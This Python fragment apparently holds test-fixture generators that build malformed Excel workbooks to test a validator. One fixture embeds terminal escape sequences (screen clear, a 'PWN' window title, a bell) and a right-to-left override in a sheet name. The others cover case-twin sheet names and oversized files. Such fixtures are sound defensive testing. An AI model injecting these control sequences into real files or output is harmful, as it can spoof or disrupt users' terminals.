def escapes_in_sheet_names(path: Path, base: Path) -> Path:
    """A sheet named with a terminal escape (stored as Excel stores control characters,
    _x001B_) and a right-to-left override, holding a bad value: its name gets printed."""
    bad = _typed(TT_TIN_BAI="mười")(path, base)
    parts = dict(_parts(bad))
    book = parts["xl/workbook.xml"].decode()
    assert 'name="TT Truyền thông"' in book
    book = book.replace('name="TT Truyền thông"', 'name="TT_x001B_[2J_x001B_]0;PWN_x0007_\u202eTruyền"')
    return rezip(bad, path, {"xl/workbook.xml": book.encode()})


def case_twin_sheets(path: Path, base: Path) -> Path:
    """The TH sheet renamed to the TT sheet's name in lower case (Excel forbids two sheets whose
    names differ only in case; other programs write them), with a bad value on it."""
    bad = _typed(TH_LOP="mười")(path, base)
    parts = dict(_parts(bad))
    book = parts["xl/workbook.xml"].decode()
    book = book.replace('name="TH Tập huấn"', 'name="tt truyền thông"')
    return rezip(bad, path, {"xl/workbook.xml": book.encode()})


def worst_inside_the_limits(path: Path, base: Path) -> Path:
    """As large as a file may be and still be read: just under 5,000 rows with a code (each an
    unknown code, each a warning), just under 100,000 filled cells, a bad value so that it is
    rejected and gets a marked copy and feedback."""
    import openpyxl

    bad = _typed(TT_TIN_BAI="mười")(path, base)
    wb = openpyxl.load_workbook(bad)
    ws = wb.create_sheet("Phụ lục")
    for r in range(1, 4_801):
        ws.cell(r, 1, f"ZZ_R{r}")
        for c in range(2, 21):
            ws.cell(r, c, r * c)
    wb.save(path)
    return path
